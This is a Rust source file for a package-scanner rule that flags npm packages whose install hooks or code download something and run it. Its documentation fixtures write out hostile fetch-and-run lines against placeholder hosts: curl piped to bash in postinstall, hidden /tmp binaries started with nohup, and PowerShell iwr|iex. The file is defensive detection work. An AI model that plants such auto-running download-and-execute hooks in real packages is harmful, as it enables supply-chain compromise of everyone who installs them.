//! # A download is handed to an interpreter
//!
//! A command line fetches something and runs it: piped into a shell or another interpreter, or saved, made
//! executable and started.
//!
//! ## Why it matters
//!
//! What runs is not in the package, is checked by nobody and can be another thing for every visitor.
//!
//! ## Known benign uses
//!
//! Installers that a person starts on purpose. This rule looks at what starts by itself.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "curl -fsSL https://get.invalid/setup.sh | bash"}}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { exec } = require("child_process");
//! const base = "https://theme.invalid";
//! exec(`curl -o /tmp/.td ${base}/mac && chmod 755 /tmp/.td && /tmp/.td &`); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "sh ./prepare.sh"}}
//! == prepare.sh //~ 1
//! #!/bin/sh
//! (wget -qO /tmp/.gh https://assets.invalid/l || curl -so /tmp/.gh https://assets.invalid/l) 2>/dev/null
//! chmod +x /tmp/.gh && nohup /tmp/.gh >/dev/null 2>&1 &
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { exec } = require("child_process");
//! exec('powershell -NoProfile "iwr https://theme.invalid/s.ps1 -UseBasicParsing | iex"'); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node banner.js"}}
//! == banner.js
//! console.log("To install: curl -fsSL https://tool.example/install.sh | sh");
//! == index.js
//! exports.help = "curl -fsSL https://tool.example/install.sh | sh";
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"setup": "curl -fsSL https://tool.example/install.sh | sh"}}
//! ```
//!
//! ## References
//!
//! - GitHub Advisory GHSA-pjwm-rvh2-c87w (ua-parser-js, October 2021)

use crate::prelude::*;

/// A download is handed to an interpreter.
pub struct DownloadPipedToInterpreter;

impl Rule for DownloadPipedToInterpreter {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "download-piped-to-interpreter",
            title: "A download is handed to an interpreter",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &["curl-pipe-shell", "lifecycle-preinstall", "lifecycle-install", "python-download"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for command in facts.commands() {
            let is_asked_for = matches!(command.origin, CommandOrigin::Script(_) | CommandOrigin::AutoRun);
            let is_build =
                command.trigger == Trigger::Build && matches!(command.origin, CommandOrigin::Call(_));
            if is_asked_for || !(command.trigger.runs_unasked() || is_build) {
                continue;
            }
            for kind in &command.behaviours {
                let BehaviourKind::DownloadAndRun { urls } = kind else { continue };
                let from =
                    urls.first().map(|url| format!(" from `{}`", excerpt(url, 80))).unwrap_or_default();
                found.at(command.trigger, &command.locus, &format!("downloads{from} and runs it"));
            }
        }
    }
}
